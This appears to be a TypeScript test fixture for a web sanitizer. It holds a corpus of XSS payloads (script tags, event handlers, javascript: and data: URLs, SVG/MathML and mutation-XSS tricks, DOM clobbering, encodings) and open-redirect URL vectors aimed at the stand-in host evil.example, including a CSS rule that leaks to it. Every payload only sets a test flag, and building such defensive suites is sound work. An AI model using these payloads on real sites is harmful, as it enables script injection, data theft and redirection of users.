/**
 * The attacker's corpus: HTML that tries to run script, and URLs that try to leave the site
 * or run script when they become a link, a frame or a navigation. Every payload that runs
 * sets `window.__pwned` (see ./harness.ts, which also proves the detector on a raw sink).
 */

/** Script to run: sets the flag the suite watches. */
const JS = 'top.__pwned=1';
const JS_URL = `javascript:${JS}`;

export const XSS_PAYLOADS: readonly string[] = [
  // script elements
  `<script>${JS}</script>`,
  `<SCRIPT SRC="data:text/javascript,${JS}"></SCRIPT>`,
  `<script type="module">${JS}</script>`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<script\x20type="text/javascript">${JS};</script>`,
  `"><script>${JS}</script>`,
  `'--></style></script><script>${JS}</script>`,
  // event handlers
  `<img src=x onerror="${JS}">`,
  `<img src="x" OnErRoR=${JS}>`,
  `<img src=x onerror\n=${JS}>`,
  `<img/src/onerror=${JS}>`,
  `<body onload="${JS}">`,
  `<svg onload="${JS}"></svg>`,
  `<svg/onload=${JS}>`,
  `<input autofocus onfocus="${JS}">`,
  `<select autofocus onfocus="${JS}"></select>`,
  `<textarea autofocus onfocus="${JS}"></textarea>`,
  `<details open ontoggle="${JS}">`,
  `<video><source onerror="${JS}"></video>`,
  `<audio src=x onerror="${JS}"></audio>`,
  `<marquee onstart="${JS}">x</marquee>`,
  `<div onmouseover="${JS}" style="position:fixed;inset:0">x</div>`,
  `<a href="#" onclick="${JS}">click</a>`,
  `<object data="x" onerror="${JS}"></object>`,
  `<image src=x onerror="${JS}">`,
  `<style onload="${JS}"></style>`,
  `<link rel=stylesheet href=x onerror="${JS}">`,
  `<p onanimationstart="${JS}" style="animation-name:x">x</p>`,
  // javascript: and data: URLs in attributes
  `<a href="${JS_URL}">link</a>`,
  `<a href="JaVaScRiPt:${JS}">link</a>`,
  `<a href="java&#x09;script:${JS}">link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS}">link</a>`,
  `<a href=" \x01javascript:${JS}">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="data:text/html,<script>${JS}</script>">link</a>`,
  `<iframe src="${JS_URL}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>`,
  `<embed src="${JS_URL}">`,
  `<object data="${JS_URL}"></object>`,
  `<form action="${JS_URL}"><button>go</button></form>`,
  `<button formaction="${JS_URL}">go</button>`,
  `<isindex action="${JS_URL}" type=image>`,
  `<math><a xlink:href="${JS_URL}">x</a></math>`,
  `<svg><a xlink:href="${JS_URL}"><text y="20">x</text></a></svg>`,
  `<svg><a href="${JS_URL}"><text y="20">x</text></a></svg>`,
  // frames with their own document
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${JS_URL}">`,
  `<base href="${JS_URL}/"><a href="x">x</a>`,
  // svg and math namespace confusion
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href="data:,${JS}"/></svg>`,
  `<svg><animate onbegin="${JS}" attributeName="x" dur="1s">`,
  `<svg><set attributeName="onmouseover" to="${JS}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${JS}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${JS}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${JS} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  // template, noscript and other parsing tricks (mutation XSS)
  `<template><img src=x onerror="${JS}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${JS}>"></noembed>`,
  `<xmp><img title="</xmp><img src=x onerror=${JS}>"></xmp>`,
  `<title><img title="</title><img src=x onerror=${JS}>"></title>`,
  `<textarea><img title="</textarea><img src=x onerror=${JS}>"></textarea>`,
  `<!--<img src="--><img src=x onerror=${JS}//">`,
  `<![CDATA[><img src=x onerror=${JS}>]]>`,
  `<a id="x"><a id="x" name="y" href="${JS_URL}">clobber</a>`,
  `<img name="getElementById"><img id="__pwned" src=x>`,
  // CSS that runs or leaks
  `<div style="background:url(${JS_URL})">x</div>`,
  `<div style="width:expression(${JS})">x</div>`,
  `<style>@import "${JS_URL}";</style>`,
  `<style>*{background:url("//evil.example/leak")}</style>`,
  // encodings
  `&lt;script&gt;${JS}&lt;/script&gt;`,
  `<img src=x onerror=&#x74;&#x6f;&#x70;.__pwned=1>`,
  `\u003Cimg src=x onerror=${JS}\u003E`,
];

/** Where a URL came from, for the test names. */
export interface UrlVector {
  name: string;
  url: string;
}

/** Another site the vectors try to reach. */
export const EVIL_HOST = 'evil.example';

/** Every case mix of a scheme that must never become a link, frame or navigation. */
function caseMixes(scheme: string): string[] {
  return [scheme, scheme.toUpperCase(), scheme.replace(/(.)(.)/g, (_, a: string, b: string) => a.toUpperCase() + b)];
}

export const URL_VECTORS: readonly UrlVector[] = [
  ...caseMixes('javascript').map((s) => ({ name: `${s}:`, url: `${s}:top.__pwned=1` })),
  ...caseMixes('data').map((s) => ({ name: `${s}:`, url: `${s}:text/html,<script>top.__pwned=1</script>` })),
  ...caseMixes('vbscript').map((s) => ({ name: `${s}:`, url: `${s}:msgbox(1)` })),
  { name: 'javascript: after a leading space', url: ' javascript:top.__pwned=1' },
  { name: 'javascript: after a control character', url: '\x01javascript:top.__pwned=1' },
  { name: 'tab inside javascript:', url: 'java\tscript:top.__pwned=1' },
  { name: 'newline inside javascript:', url: 'java\nscript:top.__pwned=1' },
  { name: 'carriage return inside javascript:', url: 'java\rscript:top.__pwned=1' },
  { name: 'NUL inside javascript:', url: 'java\0script:top.__pwned=1' },
  { name: 'entity-encoded javascript:', url: '&#106;avascript:top.__pwned=1' },
  { name: 'percent-encoded javascript:', url: '%6Aavascript:top.__pwned=1' },
  { name: 'javascript: with an encoded colon', url: 'javascript&colon;top.__pwned=1' },
  { name: '//host', url: `//${EVIL_HOST}/x` },
  { name: '///host', url: `///${EVIL_HOST}/x` },
  { name: '/\\t/host', url: `/\t/${EVIL_HOST}/x` },
  { name: '/\\n/host', url: `/\n/${EVIL_HOST}/x` },
  { name: '/\\r/host', url: `/\r/${EVIL_HOST}/x` },
  { name: '/\\0/host', url: `/\0/${EVIL_HOST}/x` },
  { name: '\\\\host', url: `\\\\${EVIL_HOST}/x` },
  { name: '/\\host', url: `/\\${EVIL_HOST}/x` },
  { name: '\\/host', url: `\\/${EVIL_HOST}/x` },
  { name: '/%09/host', url: `/%09/${EVIL_HOST}/x` },
  { name: '/%2F/host', url: `/%2F${EVIL_HOST}/x` },
  { name: '/%5C/host', url: `/%5C${EVIL_HOST}/x` },
  { name: 'https:host without slashes', url: `https:${EVIL_HOST}/x` },
  { name: 'http:/\\host', url: `http:/\\${EVIL_HOST}/x` },
  { name: 'https:\\\\host', url: `https:\\\\${EVIL_HOST}/x` },
  { name: 'user-info disguise', url: `/@${EVIL_HOST}` },
  { name: 'tab before //host', url: `\t//${EVIL_HOST}/x` },
];

/**
 * True for a URL the suite accepts as where data led: this page's origin, or an http(s)
 * address whose host the data wrote plainly (`https://host/…`; with `protocolRelative`, a
 * frame may also take `//host/…`). A host reached through control characters, backslashes
 * or encodings is never accepted.
 */
export function isAllowedResult(result: string, written: string, pageOrigin: string, { protocolRelative = false } = {}): boolean {
  let url: URL;
  try {
    url = new URL(result, pageOrigin);
  } catch {
    return false;
  }
  if (url.origin === pageOrigin) return true;
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return false;
  const plain = [`${url.protocol}//${url.host}/`, ...(protocolRelative ? [`//${url.host}/`] : [])];
  return plain.some((prefix) => written.toLowerCase().startsWith(prefix));
}
